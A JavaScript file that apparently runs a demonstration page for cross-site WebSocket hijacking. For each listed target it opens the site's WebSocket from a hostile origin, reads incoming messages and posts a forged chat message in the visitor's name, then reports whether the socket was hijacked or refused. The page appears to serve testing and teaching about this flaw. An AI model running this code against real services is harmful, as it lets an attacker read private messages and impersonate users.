// What a hostile page does: open somebody else's WebSocket, read as the visitor, write as the visitor.

const targets = await (await fetch("/targets.json")).json();
const places = document.querySelector("#targets");
const listenMs = 1500;

async function attack(target) {
  const place = document.createElement("article");
  const name = document.createElement("h2");
  const outcome = document.createElement("p");
  const detail = document.createElement("p");
  outcome.className = "outcome";
  name.textContent = `${target.name}: ${target.socket}`;
  outcome.textContent = "trying …";
  place.append(name, outcome, detail);
  places.append(place);
  const result = await attempt(target);
  outcome.textContent = result.headline;
  detail.textContent = result.detail;
  place.dataset.target = target.name;
  place.dataset.outcome = result.outcome;
}

async function attempt(target) {
  if (!(await isReachable(target.page))) {
    return {
      outcome: "unreachable",
      headline: "Not tried",
      detail: `This browser cannot reach ${new URL(target.page).origin}, or does not trust its certificate: open it once first.`,
    };
  }
  const stolen = await openAndListen(target.socket);
  if (stolen === null) {
    return {
      outcome: "refused",
      headline: "Refused",
      detail: "The WebSocket was refused before it opened. Nothing was read, nothing was written.",
    };
  }
  return {
    outcome: "hijacked",
    headline: `HIJACKED: read ${stolen.length} message${stolen.length === 1 ? "" : "s"}`,
    detail: `And wrote one in your name. First read: ${stolen[0] ?? "nothing"}`,
  };
}

// A refused WebSocket and an untrusted certificate look alike to a page, so this asks for the page first.
async function isReachable(page) {
  try {
    await fetch(page, { mode: "no-cors", credentials: "omit", cache: "no-store" });
    return true;
  } catch {
    return false;
  }
}

function openAndListen(url) {
  const { promise, resolve } = Promise.withResolvers();
  const socket = new WebSocket(url);
  const read = [];
  let opened = false;
  socket.addEventListener("open", () => {
    opened = true;
    socket.send(JSON.stringify({ type: "join", room: "lobby" }));
    socket.send(JSON.stringify({ type: "say", room: "lobby", text: "I did not write this." }));
    setTimeout(() => socket.close(), listenMs);
  });
  socket.addEventListener("message", (event) => read.push(event.data));
  socket.addEventListener("close", () => resolve(opened ? read : null));
  return promise;
}

async function attackAll() {
  places.replaceChildren();
  await Promise.all(targets.map(attack));
}

document.querySelector("#again").addEventListener("click", attackAll);
await attackAll();
